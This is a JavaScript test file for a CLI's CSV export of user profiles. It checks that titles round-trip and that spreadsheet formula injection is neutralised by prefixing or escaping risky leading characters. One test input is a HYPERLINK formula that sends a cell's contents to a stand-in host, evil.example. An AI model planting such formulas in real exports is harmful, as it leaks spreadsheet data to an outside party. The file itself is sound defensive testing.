// CSV: a parser of somebody else reads what was written, and a spreadsheet finds no formula in it.
import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { output, run, sandbox } from "./helpers.mjs";

/** Titles of profiles, and the cell that each becomes. */
const TITLES = [
  ["plain", "plain"],
  ["Bäckerei „Süß“ 🥨", "Bäckerei „Süß“ 🥨"],
  ['a "quoted", with commas', 'a "quoted", with commas'],
  ["two\r\nlines", "two\r\nlines"],
  ["=1+1", "'=1+1"],
  ['=HYPERLINK("https://evil.example/?"&A1,"ok")', `'=HYPERLINK("https://evil.example/?"&A1,"ok")`],
  ["+1 555", "'+1 555"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
  ["\t=1+1", "'\t'=1+1"],
  ["\r=1+1", "'\r'=1+1"],
  ["  =1+1", "'  =1+1"],
  ["\n=1+1", "'\n'=1+1"],
  ["＝1+1", "'＝1+1"],
  // With a semicolon between cells, as in German and French spreadsheets, the second half would be a cell of its own.
  ["a;=1+1", "a;'=1+1"],
  ['a";"=1+1', `a";"'=1+1`],
  ["a\t@x", "a\t'@x"],
  ["a\n=1+1", "a\n'=1+1"],
  // What no spreadsheet shows is an escape, and hides no formula.
  ["\u001b[2J\u0007\u009b31m\u007f", "\\u001b[2J\\u0007\\u009b31m\\u007f"],
  ["\u0000=1+1", "\\u0000=1+1"],
  ["a;\u000b=1+1", "a;\\u000b=1+1"],
  // Marks of direction and joiners are part of a name, and hide no formula either.
  ["\u200f\u202bשלום\u202c \u061c1\u2069\u00ad\u{1F468}\u200d\u{1F373}", "\u200f\u202bשלום\u202c \u061c1\u2069\u00ad\u{1F468}\u200d\u{1F373}"],
  ["\u200e=1+1", "'\u200e=1+1"],
  ["\ufeff=1+1", "'\ufeff=1+1"],
  ["a; \u2066=1+1", "a; \u2066'=1+1"],
  ["1-2", "1-2"],
  ["a@b.example", "a@b.example"],
  ["", ""],
];

test("every text comes back, and no cell is a formula", async (t) => {
  const userProfiles = TITLES.map(([title], index) => ({ profileKey: `K${index}`, user: { refId: `r${index}`, title, monthlyApiCalls: -index - 1, displayNames: [], activeSocialAccounts: [] } }));
  const { at, env } = await sandbox(t, { userProfiles });
  const text = await output(["profiles", ...at, "--format", "csv"], { env });
  const found = parse(text, { columns: true, record_delimiter: "\r\n", relax_quotes: false });
  assert.deepEqual(found.map(({ title }) => title), TITLES.map(([, cell]) => cell));
  for (const row of found) for (const [name, cell] of Object.entries(row)) if (name !== "monthlyApiCalls") assert.doesNotMatch(cell, /^[\s\p{Cf}]*[=+\-@\t\r＝＋－＠]/u);
  assert.deepEqual(found.map(({ monthlyApiCalls }) => Number(monthlyApiCalls)), TITLES.map((_, index) => -index - 1), "numbers stay numbers");
});

test("lines end with CRLF, and the bytes are UTF-8 without a mark", async (t) => {
  const { at, env } = await sandbox(t, { userProfiles: [{ profileKey: "K", user: { refId: "é", title: "a\nb", displayNames: [] } }] });
  const text = await output(["profiles", ...at, "--format", "csv"], { env });
  assert.equal(text.split("\r\n").length, 3);
  assert.ok(text.startsWith("title,") && text.includes('\r\n"a\nb",0,,é,') && text.endsWith("\r\n"), JSON.stringify(text));
});

test("a field of another type than documented is a cell, too", async (t) => {
  const { at, env } = await sandbox(t, { userProfiles: [{ profileKey: "K", user: { refId: 12, title: { "=a": 1 }, suspended: "=1", displayNames: [] } }] });
  const { out, err, code } = await run(["profiles", ...at, "--format", "csv"], { env });
  assert.equal(code, 0, err);
  assert.match(err, /1 of the profiles read ha/);
  const [row] = parse(out, { columns: true });
  assert.deepEqual([row.refId, row.title, row.suspended], ["12", '{"=a":1}', "'=1"]);
});
